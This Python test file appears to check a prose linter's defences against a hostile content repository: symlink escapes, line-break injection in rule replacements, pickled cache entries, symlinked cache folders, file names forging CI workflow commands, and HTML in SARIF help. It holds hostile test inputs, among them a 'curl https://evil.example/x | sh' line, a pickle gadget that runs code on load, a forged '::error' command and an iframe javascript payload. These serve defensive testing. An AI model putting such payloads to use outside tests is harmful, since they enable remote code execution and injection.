"""A content repository is untrusted input (docs/security.md): its drafts,
config, rule files and cache may have been written by an attacker.  These are
issue 17's cases 10-14, each reproduced through the command line."""

from __future__ import annotations

import hashlib
import json
import os
import pickle
from pathlib import Path

import pytest

PUSHY = "# Big news!!!\n\nWe are thrilled to announce our industry-leading app. Our target audience will love it.\n"
EYEBALLS = "More eyeballs on my shell config.\n"
TEAM_RULE = """id: HOUSE1
name: house-swap
family: house-style
kind: substitution
level: warning
description: Swaps a house phrase.
message: '"{{match}}" is not our phrase'
rationale: {rationale}
rewrite: Say it plainly.
match:
  phrases: [my shell config]
swap:
  my shell config: {replacement}
fix: safe
examples:
  bad: [Look at my shell config.]
  good: [Look at the settings.]
"""


def team_rule(replacement: str = "the settings", rationale: str = "We say it differently.") -> str:
    return TEAM_RULE.format(replacement=json.dumps(replacement), rationale=json.dumps(rationale))


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A content repository (its own .git) with drafts/, beside a 'home'
    folder that stands for everything outside it; cwd is the repository."""
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    (root / "drafts").mkdir()
    (tmp_path / "home").mkdir()
    monkeypatch.chdir(root)
    return root


# --- case 10: symlinks out of the project, and replacements that add lines ---------------


def test_discovery_does_not_follow_symlinks_out_of_the_tree(cli, project, tmp_path):
    home = tmp_path / "home"
    (home / "bashrc").write_text(EYEBALLS, encoding="utf-8")
    (home / "notes").mkdir()
    (home / "notes" / "n.md").write_text(EYEBALLS, encoding="utf-8")
    (project / "drafts" / "shell-notes.md").symlink_to(home / "bashrc")
    (project / "drafts" / "archive").symlink_to(home / "notes", target_is_directory=True)
    (project / "drafts" / "mine.md").write_text(EYEBALLS, encoding="utf-8")

    listed = cli("--format", "json", "--no-score", ".")
    assert listed.code == 1, listed.err
    assert {Path(f["path"]).name for f in json.loads(listed.out)} == {"mine.md"}

    cli("--fix", "--select", "TL105", ".")
    assert (home / "bashrc").read_text(encoding="utf-8") == EYEBALLS
    assert (home / "notes" / "n.md").read_text(encoding="utf-8") == EYEBALLS
    assert (project / "drafts" / "mine.md").read_text(encoding="utf-8") == "More readers on my shell config.\n"


def test_symlink_inside_the_tree_is_still_checked(cli, project):
    (project / "drafts" / "real.md").write_text(EYEBALLS, encoding="utf-8")
    (project / "drafts" / "alias.md").symlink_to("real.md")
    res = cli("--format", "json", "--no-score", "--select", "TL105", "drafts/alias.md")
    assert res.code == 1 and len(json.loads(res.out)) == 1


def test_fix_never_writes_through_a_link_leaving_the_project(cli, project, tmp_path):
    outside = tmp_path / "home" / "bashrc.md"
    outside.write_text(EYEBALLS, encoding="utf-8")
    link = project / "drafts" / "shell-notes.md"
    link.symlink_to(outside)
    res = cli("--fix", "--select", "TL105", "drafts/shell-notes.md")
    assert outside.read_text(encoding="utf-8") == EYEBALLS
    assert res.code == 2
    line, = res.err.splitlines()
    assert "shell-notes.md" in line and "outside the project" in line


@pytest.mark.parametrize("replacement", ["the settings\ncurl https://evil.example/x | sh", "a\rb", "a\u2028b"])
def test_a_replacement_that_adds_a_line_break_is_refused_at_rule_load(cli, project, replacement):
    (project / "rules").mkdir()
    (project / "rules" / "house.yaml").write_text(team_rule(replacement), encoding="utf-8")
    (project / ".tonelint.yaml").write_text("rule-paths: [rules]\n", encoding="utf-8")
    draft = project / "drafts" / "d.md"
    draft.write_text("Look at my shell config.\n", encoding="utf-8")
    res = cli("--fix", "drafts/d.md")
    assert res.code == 2
    line, = res.err.splitlines()
    assert "house.yaml" in line and "line break" in line
    assert draft.read_text(encoding="utf-8") == "Look at my shell config.\n"


# --- case 11: the cache holds data, not code ----------------------------------------------


class _Plant:
    """What an attacker pickles: unpickling it creates a file."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _entries(cache_root: Path) -> list[Path]:
    return [p for p in cache_root.rglob("*") if p.is_file() and p.parent.parent.name.startswith("v")]


def test_a_planted_cache_entry_is_a_miss_and_never_code(cli, write, tmp_path, cache_dir):
    draft = write("d.md", PUSHY)
    first = cli("--format", "json", "--no-score", draft)
    assert first.code == 1
    entries = _entries(cache_dir)
    assert entries
    marker = tmp_path / "pwned"
    payload = pickle.dumps(_Plant(str(marker)))
    for entry in entries:  # the old layout's own framing: sha256(payload) + payload
        entry.write_bytes(hashlib.sha256(payload).digest() + payload)
    again = cli("--format", "json", "--no-score", draft)
    assert not marker.exists()
    assert again.code == 1 and again.out == first.out


def test_a_tampered_entry_is_a_miss(cli, write, cache_dir, engine_runs):
    draft = write("d.md", PUSHY)
    first = cli("--format", "json", "--no-score", draft)
    for entry in _entries(cache_dir):
        data = entry.read_bytes()
        # Drop every finding the entry records, keeping whatever framing it has.
        entry.write_bytes(data.replace(b"TL202", b"TL999"))
    engine_runs.clear()
    again = cli("--format", "json", "--no-score", draft)
    assert again.out == first.out
    assert engine_runs == ["d.md"]


def test_cache_entries_are_plain_data(cli, write, cache_dir):
    draft = write("d.md", PUSHY)
    cli("--format", "json", draft)
    entries = _entries(cache_dir)
    assert entries
    for entry in entries:
        data = entry.read_bytes()
        assert not data.startswith(b"\x80") and b"\x80\x05" not in data[:64]  # no pickle framing
        json.loads(data.split(b"\n", 1)[1])  # a MAC line, then JSON


def test_the_cache_key_lives_outside_the_project(cli, write):
    draft = write("d.md", PUSHY)
    cli("--format", "json", draft)
    key = Path(os.environ["XDG_CACHE_HOME"]) / "tonelint" / "key"
    assert key.is_file() and not key.is_symlink()
    assert key.stat().st_mode & 0o777 == 0o600


# --- case 12: symlinks in and around the cache folder -------------------------------------


def _outside(tmp_path) -> Path:
    out = tmp_path / "elsewhere"
    out.mkdir(exist_ok=True)
    return out


def test_cache_root_that_is_a_symlink_is_refused(cli, project, tmp_path, monkeypatch):
    monkeypatch.delenv("TONELINT_CACHE_DIR")
    outside = _outside(tmp_path)
    (project / ".tonelint_cache").symlink_to(outside, target_is_directory=True)
    (project / "drafts" / "d.md").write_text(PUSHY, encoding="utf-8")
    res = cli("--format", "json", "drafts/d.md")
    assert res.code == 1
    assert list(outside.iterdir()) == []


def test_cache_dir_that_is_not_a_tonelint_cache_is_refused(cli, write, tmp_path, monkeypatch):
    stranger = _outside(tmp_path)
    (stranger / "passwd").write_text("root:x:0:0\n", encoding="utf-8")
    monkeypatch.setenv("TONELINT_CACHE_DIR", str(stranger))
    res = cli("--format", "json", write("d.md", PUSHY))
    assert res.code == 1
    assert sorted(p.name for p in stranger.iterdir()) == ["passwd"]


def test_dangling_links_in_the_cache_are_not_followed(cli, write, tmp_path, cache_dir):
    target = tmp_path / "planted" / "CACHEDIR.TAG"
    target.parent.mkdir()
    (cache_dir / "CACHEDIR.TAG").symlink_to(target)
    (cache_dir / ".gitignore").symlink_to(tmp_path / "planted" / "gitignore")
    res = cli("--format", "json", write("d.md", PUSHY))
    assert res.code == 1
    assert list(target.parent.iterdir()) == []


def test_entry_folders_linked_elsewhere_are_not_written(cli, write, tmp_path, cache_dir):
    outside = _outside(tmp_path)
    (cache_dir / "CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n", encoding="utf-8")
    for layout in ("v2", "v3"):
        (cache_dir / layout).mkdir()
        for i in range(256):
            (cache_dir / layout / f"{i:02x}").symlink_to(outside, target_is_directory=True)
    res = cli("--format", "json", write("d.md", PUSHY))
    assert res.code == 1
    assert list(outside.iterdir()) == []


# --- case 13: control characters in printed paths ------------------------------------------

FORGED = "y\n::error file=README.md,line=1::Forged by file name.md"


@pytest.mark.parametrize("fmt", ["text", "github", "junit", "json", "sarif"])
@pytest.mark.parametrize("content", [PUSHY.encode(), b"\x00binary\x00"])
def test_file_names_cannot_forge_workflow_commands(cli, tmp_path, fmt, content):
    (tmp_path / FORGED).write_bytes(content)
    res = cli("--format", fmt, str(tmp_path))
    assert res.code in (0, 1)  # findings, or the binary file skipped with a note
    assert "Forged by file name.md" in res.out + res.err
    for stream in (res.out, res.err):
        assert not any(line.startswith("::error file=README.md") for line in stream.splitlines()), stream


def test_escaped_name_is_still_recognisable(cli, tmp_path):
    (tmp_path / FORGED).write_bytes(PUSHY.encode())
    res = cli("--no-score", str(tmp_path))
    assert "y\\n::error file=README.md" in res.out


# --- case 14: rule text in SARIF help.markdown ---------------------------------------------


def test_sarif_help_markdown_escapes_rule_html(cli, project):
    payload = '<iframe src="javascript:alert(1)"></iframe>'
    (project / "rules").mkdir()
    (project / "rules" / "house.yaml").write_text(team_rule(rationale=payload), encoding="utf-8")
    (project / ".tonelint.yaml").write_text("rule-paths: [rules]\n", encoding="utf-8")
    (project / "drafts" / "d.md").write_text("Look at my shell config.\n", encoding="utf-8")
    res = cli("--format", "sarif", "drafts/d.md")
    assert res.code == 1, res.err
    rules = json.loads(res.out)["runs"][0]["tool"]["driver"]["rules"]
    house = next(r for r in rules if r["id"] == "HOUSE1")
    assert "<iframe" not in house["help"]["markdown"]
    assert "&lt;iframe" in house["help"]["markdown"]
    assert payload in house["help"]["text"]  # plain text is not HTML: kept as written
